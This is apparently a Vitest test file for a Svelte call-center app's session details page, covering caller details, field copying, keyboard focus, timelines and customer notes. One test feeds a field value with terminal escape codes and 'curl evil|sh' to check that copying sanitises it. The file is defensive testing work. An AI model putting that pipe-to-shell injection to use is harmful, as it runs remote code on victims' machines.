import { waitFor, within } from '@testing-library/svelte';
import { describe, expect, it } from 'vitest';
import {
  createLogView,
  createMember,
  createAppState,
  createSessionView,
  createDetails,
} from './builders';
import { FakeBridge } from './fake-bridge';
import { renderApp } from './render-app';

const session = createSessionView({
  id: 's1',
  phase: 'held',
  customerPath: ['Northside', 'Bright Dental'],
  members: [createMember({ name: 'Maya Kent', isMuted: true })],
});
const fields = { id: 's1', callState: 'Hold', members: [{ role: 'Agent' }], wasMissed: false };

const createBridge = (
  details: Parameters<typeof createDetails>[0] = {},
  answers: ConstructorParameters<typeof FakeBridge>[1] = {},
) =>
  new FakeBridge(createAppState({ sessions: [session] }), {
    'session:details': () => createDetails({ id: 's1', fields, ...details }),
    ...answers,
  });

describe('details page', () => {
  it('opens with a click and shows caller, customer, and members', async () => {
    const { page, user } = await renderApp(createBridge());
    await user.click(page.getByRole('button', { name: /^Grace Hopper/ }));
    expect(
      await page.findByRole('heading', { level: 1, name: 'Grace Hopper' }),
    ).toBeInTheDocument();
    expect(page.getByText('for Northside › Bright Dental')).toBeInTheDocument();
    const members = page.getByRole('region', { name: 'People' });
    expect(members).toHaveTextContent(/Maya Kent.*Agent · Connected.*Muted/s);
  });

  it('marks a name from the contacts, in the list and in the details', async () => {
    const named = { ...session, isNameFromContacts: true };
    const bridge = new FakeBridge(createAppState({ sessions: [named] }), {
      'session:details': () => createDetails({ id: 's1', fields }),
    });
    const { page, user } = await renderApp(bridge);
    await user.click(page.getByRole('button', { name: /^Grace Hopper \(Name from contacts\)/ }));
    await page.findByRole('heading', { level: 1, name: 'Grace Hopper' });
    expect(page.getByText('Name from contacts')).toBeVisible();
  });

  it('returns the focus to the row it was opened from', async () => {
    const { page, user } = await renderApp(createBridge());
    page.getByRole('button', { name: /^Grace Hopper/ }).focus();
    await user.keyboard('{Enter}');
    await page.findByRole('heading', { level: 1, name: 'Grace Hopper' });
    await user.keyboard('{Escape}');
    await expect.poll(() => document.activeElement?.getAttribute('data-row')).toBe('s1');
  });

  it('lists every raw field and copies it', async () => {
    const bridge = createBridge();
    const { page, user } = await renderApp(bridge);
    bridge.emit('window:navigate', { view: 'session', id: 's1' });
    await user.click(await page.findByText('All fields'));
    expect(page.getByText('callState')).toBeInTheDocument();
    expect(page.getByText('Hold')).toBeInTheDocument();
    expect(page.getByText('wasMissed')).toBeInTheDocument();
    expect(page.getByText('false')).toBeInTheDocument();
    await user.click(page.getByRole('button', { name: 'Copy callState' }));
    await user.click(page.getByRole('button', { name: 'Copy as JSON' }));
    expect(bridge.requestsFor('clipboard:copy')).toEqual(['Hold', JSON.stringify(fields, null, 2)]);
    expect(page.getByText('Copied')).toBeInTheDocument();
  });

  it('gives each copy button its own name', async () => {
    const members = [{ id: 'a' }, { id: 'b' }];
    const bridge = createBridge({ fields: { ...fields, members } });
    const { page, user } = await renderApp(bridge);
    bridge.emit('window:navigate', { view: 'session', id: 's1' });
    await user.click(await page.findByText('All fields'));
    const names = page
      .getAllByRole('button', { name: /^Copy / })
      .flatMap((button) => button.getAttribute('aria-label') ?? []);
    expect(names).toContain('Copy members 1 id');
    expect(new Set(names).size).toBe(names.length);
  });

  it('makes all fields one Tab stop with arrow keys between their copy buttons', async () => {
    const members = [{ id: 'a' }, { id: 'b' }];
    const bridge = createBridge({ fields: { members, callState: 'Hold' } });
    const { page, user } = await renderApp(bridge);
    bridge.emit('window:navigate', { view: 'session', id: 's1' });
    await user.click(await page.findByText('All fields'));
    const copyButton = (name: string) => page.getByRole('button', { name: `Copy ${name}` });
    await user.tab();
    expect(copyButton('as JSON')).toHaveFocus();
    await user.tab();
    expect(copyButton('members')).toHaveFocus();
    await user.keyboard('{ArrowDown}{ArrowDown}');
    expect(copyButton('members 0 id')).toHaveFocus();
    await user.keyboard('{End}');
    expect(copyButton('callState')).toHaveFocus();
    await user.keyboard('{ArrowUp}');
    expect(copyButton('members 1 id')).toHaveFocus();
    await user.tab({ shift: true });
    expect(copyButton('as JSON')).toHaveFocus();
    await user.tab();
    expect(copyButton('members 1 id')).toHaveFocus();
  });

  it('copies a value as one plain line', async () => {
    const endpointName = 'Desk\n\u001b[200~curl evil|sh\r\n\u009b';
    const bridge = createBridge({ fields: { ...fields, endpointName } });
    const { page, user } = await renderApp(bridge);
    bridge.emit('window:navigate', { view: 'session', id: 's1' });
    await user.click(await page.findByText('All fields'));
    await user.click(page.getByRole('button', { name: 'Copy endpointName' }));
    expect(bridge.requestsFor('clipboard:copy')).toEqual(['Desk [200~curl evil|sh']);
  });

  it('shows the duration of each phase', async () => {
    const from = Date.now() - 200_000;
    const bridge = createBridge({
      segments: [
        { phase: 'ringing', from },
        { phase: 'connected', from: from + 18_000 },
        { phase: 'held', from: from + 138_000 },
      ],
    });
    const { page } = await renderApp(bridge);
    bridge.emit('window:navigate', { view: 'session', id: 's1' });
    const picture = await page.findByRole('figure', { name: 'Call timeline' });
    const spans = within(picture).getAllByRole('listitem');
    expect(spans.map((item) => item.textContent.replace(/\s+/g, ' ').trim())).toEqual([
      'Ringing 18 s',
      'Connected 2 min',
      expect.stringMatching(/^On hold 1 min [12] s$/),
    ]);
  });

  it('merges server events and phases by time', async () => {
    const from = Date.now() - 60_000;
    const bridge = createBridge({
      segments: [{ phase: 'connected', from: from + 10_000 }],
      events: [
        { at: from + 20_000, message: 'Maya muted herself' },
        { at: from, message: 'Ringing Front desk' },
        { at: undefined, message: 'Someone did something' },
      ],
    });
    const { page } = await renderApp(bridge);
    bridge.emit('window:navigate', { view: 'session', id: 's1' });
    const happened = await page.findByRole('region', { name: 'Timeline' });
    const items = within(happened).getAllByRole('listitem');
    expect(items.map((item) => item.textContent)).toEqual([
      expect.stringContaining('Ringing Front desk'),
      expect.stringContaining('Connected'),
      expect.stringContaining('Maya muted herself'),
      expect.stringContaining('Someone did something'),
    ]);
  });

  it('reloads when the session changes', async () => {
    const bridge = createBridge();
    await renderApp(bridge);
    bridge.emit('window:navigate', { view: 'session', id: 's1' });
    await expect.poll(() => bridge.requestsFor('session:details')).toHaveLength(1);
    bridge.change({ trayStatus: { ...bridge.state.trayStatus, activeCount: 3 } });
    bridge.change({ sessions: { s1: { ...session, revision: 2 } } });
    await expect.poll(() => bridge.requestsFor('session:details')).toHaveLength(2);
  });

  it('shows who took part in a call that has ended, the server’s notes, and the dialed number', async () => {
    const entry = createLogView({ calledNumber: '+1 202-555-0100' });
    const { id } = entry;
    const bridge = new FakeBridge(createAppState(), {
      'session:details': () =>
        createDetails({
          id,
          entry,
          members: [{ name: 'Maya Kent', role: 'Agent', isCurrentUser: false }],
          events: [{ at: entry.startedAt, message: 'Transferred to Maya Kent' }],
        }),
    });
    const { page } = await renderApp(bridge);
    bridge.emit('window:navigate', { view: 'session', id });
    const called = await page.findByText('+1 202-555-0100', { selector: '.detail > span' });
    expect(called.parentElement).toHaveTextContent(/^Called \+1 202-555-0100$/);
    expect(page.getByRole('region', { name: 'People' })).toHaveTextContent(/Maya Kent.*Agent/s);
    expect(page.getByText('Transferred to Maya Kent')).toBeVisible();
  });

  it('shows the log entry of a call that has ended', async () => {
    const outcome = { kind: 'missed', isInferred: true, wasAway: false } as const;
    const entry = createLogView({ outcome, talkMs: 0 });
    const bridge = new FakeBridge(createAppState(), {
      'session:details': (id) => createDetails({ id, entry }),
    });
    const { page } = await renderApp(bridge);
    bridge.emit('window:navigate', { view: 'session', id: 'over' });
    await page.findByRole('heading', { level: 1, name: 'Grace Hopper' });
    await page.findByText(/^Missed · \d+:\d\d/);
    const timeline = within(page.getByRole('region', { name: 'Timeline' }));
    expect(timeline.getAllByRole('listitem').at(-1)).toHaveTextContent(/Missed · rang 9 s/);
    await page.findByText(/the server didn’t report an answer/);
  });

  it('reports that the call does not exist', async () => {
    const bridge = new FakeBridge();
    const { page } = await renderApp(bridge);
    bridge.emit('window:navigate', { view: 'session', id: 'nobody' });
    await page.findByText('This call is no longer available');
  });

  it('opens the customer page and copies the number while the caller is on the line', async () => {
    const bridge = createBridge({ canScreenPop: true });
    const { page, user } = await renderApp(bridge);
    bridge.emit('window:navigate', { view: 'session', id: 's1' });
    await user.click(await page.findByRole('button', { name: 'Open customer page' }));
    await user.click(await page.findByRole('button', { name: 'Copy number' }));
    expect(page.queryByRole('button', { name: /^Call/ })).toBeNull();
    expect(bridge.requestsFor('session:screen-pop')).toEqual(['s1']);
    expect(bridge.requestsFor('clipboard:copy')).toEqual(['+12025550147']);
  });

  it.each([
    ['Call back', 'incoming', 'Voice'],
    ['Call again', 'outgoing', 'Voice'],
    [undefined, 'incoming', 'Fax'],
  ] as const)('offers "%s" once an %s %s is over', async (label, direction, channel) => {
    const entry = createLogView({ direction, channel });
    const bridge = new FakeBridge(createAppState(), {
      'session:details': (id) => createDetails({ id, entry, canScreenPop: true }),
    });
    const { page, user } = await renderApp(bridge);
    bridge.emit('window:navigate', { view: 'session', id: entry.id });
    await page.findByRole('button', { name: 'Open customer page' });
    if (label === undefined) {
      expect(page.queryByRole('button', { name: /^Call/ })).toBeNull();
    } else {
      await user.click(page.getByRole('button', { name: label }));
      expect(bridge.requestsFor('session:call-back')).toEqual([entry.id]);
    }
  });

  it('says that the user answered', async () => {
    const own = { ...session, answeredBy: 'Jamie Ives', isAnsweredByUser: true };
    const { page, user } = await renderApp(new FakeBridge(createAppState({ sessions: [own] })));
    await user.click(page.getByRole('button', { name: /Grace Hopper/ }));
    expect(page.getByText('Answered by you')).toBeInTheDocument();
  });

  it('reports that no browser opened the customer page', async () => {
    const bridge = createBridge(
      { canScreenPop: true },
      { 'session:screen-pop': () => ({ ok: false }) },
    );
    const { page, user } = await renderApp(bridge);
    bridge.emit('window:navigate', { view: 'session', id: 's1' });
    await user.click(await page.findByRole('button', { name: 'Open customer page' }));
    expect(await page.findByText('No web browser is set up on this computer')).toBeVisible();
  });
});

describe('the history and notes of a caller', () => {
  const now = Date.now();
  const history = {
    callsToday: 3,
    lastMissedAt: new Date(now).setHours(0, 0, 1, 0),
    lastTalk: {
      at: now - 24 * 3_600_000,
      talkMs: 240_000,
      direction: 'incoming',
      by: 'Pat Kim',
      isOwn: false,
    },
  } as const;
  const notes = { number: 'Prefers mornings', customer: 'Say hello', priority: 'vip' } as const;

  it('is on the ringing card', async () => {
    const session = createSessionView({ phase: 'ringing', notes, history });
    const { page } = await renderApp(new FakeBridge(createAppState({ sessions: [session] })));
    const card = await page.findByRole('button', { name: /Grace Hopper/ });
    expect(card).toHaveTextContent(
      /VIP.*3 calls today.*missed 12:00.*talked to Pat Kim yesterday, 4 min.*Prefers mornings.*Say hello/,
    );
  });

  it('offers to mute the customer, unless an administrator decides that', async () => {
    const session = createSessionView();
    const customerNote = { customer: 'Bright Dental', text: '', priority: 'normal' } as const;
    const bridge = new FakeBridge(createAppState({ sessions: [session] }), {
      'session:details': () => createDetails({ id: session.id, customerNote }),
    });
    const { page, user } = await renderApp(bridge);
    await user.click(await page.findByRole('button', { name: /Grace Hopper/ }));
    await user.click(await page.findByText('Mute Bright Dental'));
    await user.click(await page.findByText('Unmute Bright Dental'));
    expect(bridge.requestsFor('settings:update')).toEqual([
      { mutedCustomers: ['Bright Dental'] },
      { mutedCustomers: [] },
    ]);
    bridge.change({ managedSettings: ['mutedCustomers'] });
    await waitFor(() => expect(page.queryByText('Mute Bright Dental')).toBeNull());
  });

  it.each(['ringing', 'connected'] as const)(
    'mutes the customer of a call that is %s from the list, and can undo it',
    async (phase) => {
      const bridge = new FakeBridge(createAppState({ sessions: [createSessionView({ phase })] }));
      const { page, user } = await renderApp(bridge);
      const mute = await page.findByRole('button', { name: 'Mute Bright Dental' });
      await user.click(mute);
      await waitFor(() => expect(mute).toHaveAttribute('aria-pressed', 'true'));
      await user.click(await page.findByRole('button', { name: 'Undo' }));
      await waitFor(() => expect(mute).toHaveAttribute('aria-pressed', 'false'));
      expect(bridge.requestsFor('settings:update')).toEqual([
        { mutedCustomers: ['Bright Dental'] },
        { mutedCustomers: [] },
      ]);
      bridge.change({ managedSettings: ['mutedCustomers'] });
      await waitFor(() =>
        expect(page.queryByRole('button', { name: 'Mute Bright Dental' })).toBeNull(),
      );
    },
  );

  it('mutes the customer of one of several ringing calls', async () => {
    const sessions = ['One', 'Two', 'Three', 'Four', 'Five'].map((name) =>
      createSessionView({ id: name, name, customer: name, phase: 'ringing' }),
    );
    const bridge = new FakeBridge(createAppState({ sessions }));
    const { page, user } = await renderApp(bridge);
    await user.click(await page.findByRole('button', { name: 'Mute Four' }));
    expect(bridge.requestsFor('settings:update')).toEqual([{ mutedCustomers: ['Four'] }]);
  });

  it('is edited in the details and saved when a field is left', async () => {
    const session = createSessionView();
    const numberNote = { number: '+12025550147', name: '', text: '', priority: 'normal' } as const;
    const customerNote = { customer: 'Bright Dental', text: '', priority: 'normal' } as const;
    const bridge = new FakeBridge(createAppState({ sessions: [session] }), {
      'session:details': () => createDetails({ id: session.id, numberNote, customerNote }),
    });
    const { page, user } = await renderApp(bridge);
    await user.click(await page.findByRole('button', { name: /Grace Hopper/ }));
    await user.click(await page.findByRole('button', { name: 'Edit notes' }));
    await user.type(page.getByLabelText('Your name for this number'), 'Grace from school');
    expect(bridge.requestsFor('window:keep-open')).toEqual([true]);
    await user.tab();
    await user.selectOptions(page.getByLabelText('Calls for Bright Dental'), 'Nuisance');
    expect(bridge.requestsFor('notes:put')).toEqual([
      { numbers: [{ ...numberNote, name: 'Grace from school' }], customers: [] },
      { numbers: [], customers: [{ ...customerNote, priority: 'nuisance' }] },
    ]);
  });
});
